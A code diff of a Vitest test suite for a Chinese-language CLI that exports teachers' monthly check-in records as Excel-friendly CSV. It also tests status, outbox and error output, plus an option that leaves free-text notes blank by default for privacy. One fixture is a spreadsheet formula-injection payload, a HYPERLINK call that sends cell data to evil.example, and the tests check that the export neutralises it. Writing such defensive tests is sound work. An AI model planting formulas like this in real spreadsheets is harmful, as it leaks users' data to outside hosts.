@@ -5,7 +5,7 @@ import { parse } from 'csv-parse/sync';
 import { asc, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Db } from '../../src/db/database.js';
-import { people, towns } from '../../src/db/schema/index.js';
+import { outbox, people, towns } from '../../src/db/schema/index.js';
 import { recordMonthlyCheckIn } from '../helpers/monthly-check-in.js';
 import { cliOverFreshDatabase, type CliOverDatabase, type CliRun } from '../helpers/run-cli.js';
 
@@ -32,6 +32,9 @@ const GOOD_CSV =
     'ou_b1,周强,,bureau,oc_bureau,,,',
   ].join('\r\n') +
   '\r\n';
+const NOTE = '家长说"孩子很好",下周再访';
+const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"详情")';
+const T1_COUNTS = { home_visits: '6', phone_followups: '3', new_alerts: '1' };
 const GOOD_OPEN_IDS = ['ou_p1', 'ou_t1', 'ou_t2', 'ou_p3', 'ou_t4', 'ou_t5', 'ou_b1'];
 
 // Spreadsheet line numbers: the header is line 1. Lines 2, 4 and 6 are fine on their own.
@@ -78,6 +81,24 @@ function onlyLine(run: Run): string {
   const lines = run.stdout.split('\n').filter((l) => l.trim() !== '');
   expect(lines, run.stdout).toHaveLength(1);
   return lines[0]!;
+}
+
+/** The check-in export as Excel gets it: the UTF-8 BOM's bytes, then the documented header and one row per teacher. */
+function checkinsCsv(run: Run): Map<string, Record<string, string>> {
+  expect([...Buffer.from(run.stdout, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  const text = run.stdout.slice(1);
+  expect(text.split(/\r?\n/)[0]).toBe(EXPORT_HEADER);
+  expect(text.split(/\r?\n/).filter((l) => l !== '')).toHaveLength(4); // header + 3 rows, nothing else
+  // A strict parse: a stray quote or a wrong column count would throw.
+  const records = parse(text, { columns: true, bom: false }) as Record<string, string>[];
+  expect(records.map((r) => r.open_id).sort()).toEqual(['ou_t1', 'ou_t2', 'ou_t4']);
+  return new Map(records.map((r) => [r.open_id!, r]));
+}
+
+/** An ISO-8601 instant with the +08:00 offset (not a neutralised cell), at the given moment. */
+function instant(value: string | undefined, iso: string) {
+  expect(value).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?\+08:00$/);
+  expect(new Date(value!).getTime()).toBe(new Date(iso).getTime());
 }
 
 beforeAll(async () => {
@@ -168,8 +189,7 @@ describe('npm run cli', { timeout: 120_000 }, () => {
     expect(report.rounds.opened.map((o) => o.campaign)).toEqual(['monthly-monitoring', 'principal-monthly-plan', 'annual-report']);
   });
 
-  it('export checkins --period prints one CSV row per stored check-in', async () => {
-    const note = '家长说"孩子很好",下周再访';
+  it('export checkins --period --with-notes prints one CSV row per stored check-in, for Excel: BOM first, formulas neutralised', async () => {
     await withDb(async (db) => {
       const t1 = await personOf(db, 'ou_t1');
       const t2 = await personOf(db, 'ou_t2');
@@ -177,50 +197,94 @@ describe('npm run cli', { timeout: 120_000 }, () => {
       const at = (iso: string) => new Date(iso);
       await recordMonthlyCheckIn(db, at('2026-12-02T10:00:00+08:00'), { person: t1, source: 'text', values: { homeVisits: 5, phoneFollowups: 3, newAlerts: 1, note: null } });
       // A correction: the earlier answer becomes a revision.
-      await recordMonthlyCheckIn(db, at('2026-12-03T11:30:15+08:00'), { person: t1, source: 'card', values: { homeVisits: 6, phoneFollowups: 3, newAlerts: 1, note } });
-      await recordMonthlyCheckIn(db, at('2026-12-05T08:00:00+08:00'), { person: t2, source: 'text', values: { homeVisits: 2, phoneFollowups: 0, newAlerts: 0, note: null } });
+      await recordMonthlyCheckIn(db, at('2026-12-03T11:30:15+08:00'), { person: t1, source: 'card', values: { homeVisits: 6, phoneFollowups: 3, newAlerts: 1, note: NOTE } });
+      await recordMonthlyCheckIn(db, at('2026-12-05T08:00:00+08:00'), { person: t2, source: 'text', values: { homeVisits: 2, phoneFollowups: 0, newAlerts: 0, note: HYPERLINK } });
       // After the deadline (25th 18:00): late.
-      await recordMonthlyCheckIn(db, at('2026-12-26T08:00:00+08:00'), { person: t4, source: 'text', values: { homeVisits: 1, phoneFollowups: 1, newAlerts: 0, note: '补交' } });
+      await recordMonthlyCheckIn(db, at('2026-12-26T08:00:00+08:00'), { person: t4, source: 'text', values: { homeVisits: 1, phoneFollowups: 1, newAlerts: 0, note: '@SUM(A1:A9)' } });
     });
 
-    const run = await cli('export', 'checkins', '--period', '2026-12');
+    const run = await cli('export', 'checkins', '--period', '2026-12', '--with-notes');
     expect(run.code, run.stderr).toBe(0);
-    expect(run.stdout.split(/\r?\n/)[0]).toBe(EXPORT_HEADER);
-    expect(run.stdout.split(/\r?\n/).filter((l) => l !== '')).toHaveLength(4); // header + 3 rows, nothing else
-
-    // A strict parse: a stray quote or a wrong column count would throw.
-    const records = parse(run.stdout, { columns: true, bom: false }) as Record<string, string>[];
-    expect(records).toHaveLength(3);
-    const byOpenId = new Map(records.map((r) => [r.open_id, r]));
-    expect([...byOpenId.keys()].sort()).toEqual(['ou_t1', 'ou_t2', 'ou_t4']);
-
-    const instant = (value: string | undefined, iso: string) => {
-      expect(value).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?\+08:00$/);
-      expect(new Date(value!).getTime()).toBe(new Date(iso).getTime());
-    };
+    expect(run.stderr).toBe('');
+    const byOpenId = checkinsCsv(run);
 
     const t1 = byOpenId.get('ou_t1')!;
-    expect(t1).toMatchObject({
-      period: '2026-12',
-      town: '横渠镇',
-      school: '横渠镇中心小学',
-      teacher: '张国敏',
-      home_visits: '6',
-      phone_followups: '3',
-      new_alerts: '1',
-      note,
-      late: 'false',
-      revisions: '1',
-    });
+    expect(t1).toMatchObject({ period: '2026-12', town: '横渠镇', school: '横渠镇中心小学', teacher: '张国敏', ...T1_COUNTS, note: NOTE, late: 'false', revisions: '1' });
     instant(t1.submitted_at, '2026-12-03T11:30:15+08:00');
 
+    // Excel would run these as formulas; a leading ' makes them text, the rest kept as written.
     const t2 = byOpenId.get('ou_t2')!;
-    expect(t2).toMatchObject({ period: '2026-12', teacher: '李志军', home_visits: '2', phone_followups: '0', new_alerts: '0', note: '', late: 'false', revisions: '0' });
+    expect(t2).toMatchObject({ period: '2026-12', teacher: '李志军', home_visits: '2', phone_followups: '0', new_alerts: '0', note: `'${HYPERLINK}`, late: 'false', revisions: '0' });
     instant(t2.submitted_at, '2026-12-05T08:00:00+08:00');
 
     const t4 = byOpenId.get('ou_t4')!;
-    expect(t4).toMatchObject({ period: '2026-12', town: '齐镇', school: '齐镇中心小学', teacher: '陈静', note: '补交', late: 'true', revisions: '0' });
+    expect(t4).toMatchObject({ period: '2026-12', town: '齐镇', school: '齐镇中心小学', teacher: '陈静', note: "'@SUM(A1:A9)", late: 'true', revisions: '0' });
     instant(t4.submitted_at, '2026-12-26T08:00:00+08:00');
+  });
+
+  it('export checkins without --with-notes leaves the note column empty (header unchanged) and says so on stderr', async () => {
+    const run = await cli('export', 'checkins', '--period', '2026-12');
+    expect(run.code, run.stderr).toBe(0);
+    expect(run.stderr.trim().split('\n')).toEqual(['自由填写的文字栏（note）可能写有学生姓名，本次导出已留空；确需导出请加 --with-notes。']);
+    const byOpenId = checkinsCsv(run);
+    for (const record of byOpenId.values()) expect(record.note, record.open_id).toBe('');
+    expect(byOpenId.get('ou_t1')).toMatchObject({ teacher: '张国敏', ...T1_COUNTS, revisions: '1' });
+    expect(run.stdout).not.toContain('HYPERLINK');
+    expect(run.stdout).not.toContain('孩子很好');
+  });
+
+  it('export --help explains --with-notes and the free-text columns', async () => {
+    const run = await cli('export', '--help');
+    expect(run.code).toBe(0);
+    expect(run.stdout).toContain('--with-notes');
+    expect(run.stdout).toContain('type 为 text 的字段');
+    expect(run.stdout).toContain('UTF-8 BOM');
+  });
+
+  it('status lists the open round\'s reminders, and --json gives the same events as one JSON document', async () => {
+    const text = await cli('status', '--at', '2026-12-02T09:00:00+08:00');
+    expect(text.code, text.stderr).toBe(0);
+    expect(text.stdout).toMatch(/^2026-12-22 09:00 +monthly-monitoring +提醒 due-3d：2026-12 期，发给校长$/m);
+    expect(text.stdout).toMatch(/^2027-01-04 08:00 +monthly-monitoring +开始填报 2027-01（截止 2027-01-25 18:00）$/m);
+
+    const run = await cli('status', '--at', '2026-12-02T09:00:00+08:00', '--json');
+    expect(run.code, run.stderr).toBe(0);
+    const doc = JSON.parse(run.stdout) as { at: string; timezone: string; events: Record<string, string>[] };
+    expect(doc.at).toBe('2026-12-02T09:00:00+08:00');
+    expect(doc.events).toHaveLength(text.stdout.trim().split('\n').length);
+    expect(doc.events).toContainEqual({ at: '2026-12-22T09:00:00+08:00', campaign: 'monthly-monitoring', kind: 'reminder', period: '2026-12', step: 'due-3d', to: 'principals' });
+    expect(doc.events).toContainEqual({ at: '2027-01-04T08:00:00+08:00', campaign: 'monthly-monitoring', kind: 'opens', period: '2027-01', dueAt: '2027-01-25T18:00:00+08:00' });
+  });
+
+  it('outbox --json reports the queue the tick left as one JSON document; retry re-queues a dead letter', async () => {
+    // The tick's prompts wait for a server; one is made a dead letter, as after the last failed attempt.
+    const { rows, dead } = await withDb(async (db) => {
+      const rows = await db.select().from(outbox).orderBy(asc(outbox.notBefore), asc(outbox.id));
+      const [dead] = await db.update(outbox).set({ status: 'dead', lastError: 'HTTP 400 99991663' }).where(eq(outbox.id, rows.at(-1)!.id)).returning();
+      return { rows, dead: dead! };
+    });
+    expect(rows.length).toBeGreaterThanOrEqual(3);
+    expect(rows.every((r) => r.status === 'pending')).toBe(true);
+
+    const run = await cli('outbox', '--json');
+    expect(run.code, run.stderr).toBe(0);
+    const doc = JSON.parse(run.stdout) as { byState: Record<string, number>; oldestPending: Record<string, unknown> | null; dead: Record<string, unknown>[] };
+    expect(doc.byState).toEqual({ pending: rows.length - 1, sending: 0, sent: 0, dead: 1 });
+    const first = rows[0]!;
+    expect(doc.oldestPending).toMatchObject({ id: first.id, key: first.key, kind: first.kind, attempts: first.attempts, lastError: first.lastError, failingSince: null });
+    expect(doc.oldestPending!.notBefore).toMatch(/\+08:00$/);
+    expect(new Date(doc.oldestPending!.notBefore as string).getTime()).toBe(Math.floor(first.notBefore.getTime() / 1000) * 1000);
+    expect(doc.dead).toEqual([{ id: dead.id, key: dead.key, kind: dead.kind, lastError: 'HTTP 400 99991663' }]);
+
+    const textual = await cli('outbox');
+    expect(textual.stdout).toContain(`待发送 ${rows.length - 1}  发送中 0  已发送 0  死信 1`);
+    expect(textual.stdout).toContain(`最早待发：#${first.id} ${first.kind}`);
+    expect(textual.stdout).toContain(`死信 #${dead.id} ${dead.kind} ${dead.key}：HTTP 400 99991663`);
+    const retry = await cli('outbox', 'retry', String(dead.id));
+    expect(retry.code, retry.stderr).toBe(0);
+    expect(retry.stdout.trim()).toBe(`第 ${dead.id} 条已重新排队`);
+    const after = await withDb((db) => db.select({ status: outbox.status }).from(outbox).where(eq(outbox.id, dead.id)));
+    expect(after).toEqual([{ status: 'pending' }]);
   });
 
   it('export checkins refuses a bad --period on stderr', async () => {
@@ -235,7 +299,7 @@ describe('npm run cli', { timeout: 120_000 }, () => {
     const run = await cli('tick', '--at', 'not-a-date');
     expect(run.code).toBe(2);
     expect(run.stdout).toBe('');
-    expect(run.stderr).toContain('not-a-date');
+    expect(run.stderr.trim()).toBe('--at 须为 ISO-8601 时刻，例如 2026-12-01T09:00:00+08:00（收到「not-a-date」）');
   });
 
   it('an unknown command exits non-zero with the usage on stderr', async () => {
@@ -243,14 +307,28 @@ describe('npm run cli', { timeout: 120_000 }, () => {
     expect(run.code).not.toBe(0);
     expect(run.code).not.toBeNull();
     expect(run.stdout).toBe('');
-    expect(run.stderr).toContain('frobnicate');
+    expect(run.stderr).toContain('没有「frobnicate」这个命令。');
+    expect(run.stderr).toContain('用法：npm run cli -- 命令 [参数]');
     for (const command of ['migrate', 'import-roster', 'seed-demo', 'tick', 'export checkins']) expect(run.stderr).toContain(command);
+  });
+
+  it('an unknown flag is a usage error (exit 2, the command\'s usage on stderr), not a stack trace', async () => {
+    const run = await cli('status', '--frobnicate');
+    expect(run.code).toBe(2);
+    expect(run.stdout).toBe('');
+    expect(run.stderr).toContain('参数有误');
+    expect(run.stderr).toContain('--frobnicate');
+    expect(run.stderr).toContain('用法：npm run cli -- status [--at ISO-8601] [--json]');
+    expect(run.stderr).not.toMatch(/\n\s+at /);
   });
 
   it('help prints the usage and exits 0', async () => {
     const run = await cli('help');
     expect(run.code).toBe(0);
-    const usage = run.stdout + run.stderr;
-    for (const command of ['migrate', 'import-roster', 'seed-demo', 'tick', 'export checkins']) expect(usage).toContain(command);
+    expect(run.stderr).toBe('');
+    for (const command of ['migrate', 'import-roster', 'seed-demo', 'tick', 'export checkins']) expect(run.stdout).toContain(command);
+    expect(run.stdout).toContain('用法：npm run cli -- 命令 [参数]');
+    expect(run.stdout).toMatch(/^ +status \[--at ISO-8601\] \[--json\] +接下来排定的事项/m);
+    expect(run.stdout).toMatch(/^ +outbox \[--json\] \| outbox retry ID +按状态统计/m);
   });
 });
